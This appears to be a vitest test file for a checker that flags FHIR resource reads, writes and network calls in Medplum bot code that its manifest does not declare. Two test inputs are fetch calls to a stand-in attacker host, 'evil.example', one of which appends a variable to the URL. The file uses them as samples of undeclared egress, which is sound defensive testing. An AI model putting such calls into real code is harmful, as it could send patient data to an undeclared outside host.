import { describe, expect, it } from 'vitest';
import { undeclaredUses } from './undeclared.ts';

const manifest = { reads: ['Patient'], writes: ['Flag'], egress: ['api.example.org'] };

describe('undeclaredUses', () => {
  it.each([
    [`await medplum.searchResources('Condition', {})`, ['reads Condition']],
    [`await medplum.readResource("Patient", id)`, []],
    [`await medplum.deleteResource('Flag', id); await medplum.patchResource('Patient', id, [])`, ['writes Patient']],
    [`medplum.createResource({ status: 'active', resourceType: 'Task' })`, ['writes Task']],
    [`medplum.createResource({ resourceType: 'Flag', status: 'active' })`, []],
    [`await fetch('https://api.example.org/v1')`, []],
    [`await fetch("https://evil.example/" + name)`, ['calls evil.example']],
    ['await fetch(`https://evil.example/x`)', ['calls evil.example']],
    [`const system = 'http://loinc.org';`, []],
    ['await medplum.search(`Condition`)', ['reads Condition']],
    [`await medplum['search']( 'Condition')`, ['reads Condition']],
    [`await medplum.readReference({ reference: 'Condition/1' })`, ['reads Condition']],
    [`await medplum.get('fhir/R4/Condition?code=x')`, ['reads or writes Condition']],
    [`await medplum.get('fhir/R4/Patient/1'); await medplum.post(medplum.fhirUrl('Flag'), {})`, []],
    [`await medplum.post('fhir/R4/Bot/$model', {}); medplum.post(medplum.fhirUrl('Bot', '$model'), {})`, []],
    [`await medplum.delete(medplum.fhirUrl('Task', id))`, ['reads or writes Task']],
    [`entry: [{ request: { method: 'GET', url: 'Condition?x' } }]`, ['reads or writes Condition']],
    [`entry: [{ request: { url: 'Condition/1', method: 'DELETE' } }]`, ['reads or writes Condition']],
    [`medplum.createResource   ({ code: { text: 'x' }, "resourceType": "Task" })`, ['writes Task']],
    [`medplum.createResource({ ...x, contained: [{ resourceType: 'Task' }], resourceType: 'Flag' })`, []],
  ])('%s', (code, uses) => {
    expect(undeclaredUses(code, manifest)).toEqual(uses);
  });
});
